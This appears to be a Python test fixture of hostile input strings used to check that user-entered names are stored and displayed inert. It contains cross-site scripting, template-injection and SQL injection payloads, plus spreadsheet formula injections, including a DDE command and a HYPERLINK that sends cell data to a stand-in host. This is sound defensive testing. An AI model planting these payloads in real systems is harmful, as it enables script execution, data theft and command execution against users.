"""Names a person may type: each must come out as it went in, and do nothing."""

HOSTILE = [
    "<b>bold</b> & 'quoted' \"twice\"",
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "</title></style></textarea><svg onload=alert(1)>",
    "<!--<script>alert(1)//-->",
    "{{7*7}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% raise %}",
    "50% {% off",
    "${alert(1)}",
    "`+alert(1)+`",
    "$title ${title} $$",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "javascript:alert(1)",
    "line\u2028and paragraph\u2029separators",
    "left \u202eright to left override",
    "قطعة العشب الخلفية",
    "emoji 🌱👩\u200d🌾 and ﷽",
    "__proto__",
    "&lt;i&gt; &amp;amp; &#x3c;",
    "x" * 2000,
    "'; DROP TABLE zones; --",
]

# What the CSV injection page of the Open Worldwide Application Security Project warns of: cells
# that begin with = + - @ TAB CR or LF (from memory), with blanks or an apostrophe before them.
FORMULAS = [
    "=1+1",
    "+44 lawn",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    '=HYPERLINK("http://example.invalid/?x="&A1;"look")',
    "=cmd|' /C calc'!A0",
    "'=1+1",
    "-",
]
